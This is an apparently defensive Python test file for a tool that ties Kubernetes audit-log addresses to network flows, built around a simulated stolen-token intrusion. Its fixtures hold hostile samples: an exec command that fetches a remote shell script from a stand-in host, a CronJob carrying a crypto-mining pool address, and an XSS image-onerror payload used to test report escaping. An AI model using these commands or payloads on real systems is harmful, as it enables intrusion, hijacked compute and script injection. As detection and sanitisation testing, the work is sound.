"""Traffic with addresses a finding already named.

The narrated cluster (tests/flows/narrated.py) after test_evidence.py's two normal days. On
the 22nd ci:deployer's token is used from 198.51.100.23, an address on the internet, and the
CronJob it creates carries its pool in the pod template (POOL=203.0.113.9:3333). The
CronJob's pod then takes an incoming connection from 198.51.100.23 (port 22) and, through its
node, sends 41 MB to the pool. The audit log named both addresses before the traffic happened;
the flows with them are laid to ci:deployer, whose CronJob made the pod, and say what named them.
A developer's exec that downloads from 192.0.2.200 names that address too.
"""

from __future__ import annotations

import json
from datetime import date, timedelta
from types import SimpleNamespace

from flows.audit_facts import read_facts
from flows.leases import build_leases
from flows.source import NetworkEvidence
from reports import network
from tests.flows.narrated import V5, at, cluster_events, cluster_flows, event, flow
from tests.flows.test_evidence import _normal_days

STOLEN_FROM = "198.51.100.23"
POD = "team-b/log-rotate-2912-x7k2p"


def _events(caller: str = "ci:deployer") -> list[dict]:
    events = cluster_events()
    cronjob = events[0]
    container = {"name": "rotate", "image": "busybox", "env": [{"name": "POOL", "value": "203.0.113.9:3333"}]}
    template = {"spec": {"containers": [container]}}
    cronjob["requestObject"] = {"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": template}}}}
    stolen = event(at(9, 30), caller, "list", "secrets", "team-b")
    stolen["sourceIPs"] = [STOLEN_FROM]
    return [*events, stolen]


def _source(tmp_path, caller: str = "ci:deployer") -> NetworkEvidence:
    before_events, before_flows = _normal_days()
    audit = tmp_path / "audit.jsonl"
    audit.write_text("".join(json.dumps(e) + "\n" for e in before_events + _events(caller)))
    incoming = flow(STOLEN_FROM, "10.0.1.77", STOLEN_FROM, "10.0.1.77", 22, 3_000, at(10, 20))
    flows = tmp_path / "flows.log"
    flows.write_text(V5 + "\n" + "\n".join([*before_flows, *cluster_flows(), incoming]) + "\n")
    return NetworkEvidence([str(flows)], [str(audit)])


def test_the_audit_log_names_the_callers_public_address_and_the_address_in_the_cronjobs_spec(tmp_path):
    source = _source(tmp_path)
    source.prepare()
    named = source.leases.named
    said = {(str(d.date()), a, w) for d, a, w in named.itertuples(index=False)}
    assert ("2026-03-22", STOLEN_FROM, "API requests by ci:deployer came from it") in said
    assert ("2026-03-22", "203.0.113.9", "in the spec of CronJob team-b/log-rotate created by ci:deployer") in said
    assert not any(a.startswith("10.") for _, a, _ in said)  # inside the VPC: nothing to name


def test_traffic_with_a_named_address_is_evidence_for_whoever_created_the_pod(tmp_path):
    found = _source(tmp_path)(None, date(2026, 3, 22))
    day = found.contributions.index[0][1]
    assert found.contributions.loc[("ci:deployer", day), "network:named-address"] > 0
    reason = found.reasons[("ci:deployer", day, "network:named-address")]
    # the incoming connection reached the pod itself: full weight, and said as received
    assert reason == (
        f"pod {POD} (CronJob team-b/log-rotate) created by ci:deployer received 3 kB from {STOLEN_FROM}:22, "
        "an address the audit log named today (API requests by ci:deployer came from it)"
    )
    # the report lists the incoming connection with what named the address
    page = network.finding_html(SimpleNamespace(evidence={"network": found}), "ci:deployer")
    assert f"<td>{STOLEN_FROM}</td>" in page and "named by the audit log today: API requests by ci:deployer" in page


def test_an_exec_command_names_the_address_it_downloads_from(tmp_path):
    exec_uri = event(at(12, 0), "developer", "create", "pods", "team-a", "web-1", "exec")
    exec_uri["requestURI"] = (
        "/api/v1/namespaces/team-a/pods/web-1/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F192.0.2.200%2Fx.sh"
    )
    audit = tmp_path / "exec.jsonl"
    audit.write_text(json.dumps(exec_uri) + "\n")
    named = build_leases(read_facts([str(audit)])[0]).named
    assert named[["address", "what"]].values.tolist() == [
        ["192.0.2.200", "in the command developer ran in pod team-a/web-1"]
    ]


def test_a_normal_days_callers_name_nothing_the_pods_talk_to(tmp_path):
    found = _source(tmp_path)(None, date(2026, 3, 22) - timedelta(days=1))
    # the normal days' traffic is the node's, to 192.0.2.10, which nobody named
    assert found.contributions.empty


def test_what_named_an_address_is_escaped_in_the_report(tmp_path):
    # The caller's username is the attacker's to choose; the report's flag repeats it inert.
    found = _source(tmp_path, caller="<img src=x onerror=alert(1)>")(None, date(2026, 3, 22))
    page = network.finding_html(SimpleNamespace(evidence={"network": found}), "ci:deployer")
    assert "API requests by &lt;img src=x onerror=alert(1)&gt; came from it" in page
    assert "<img" not in page
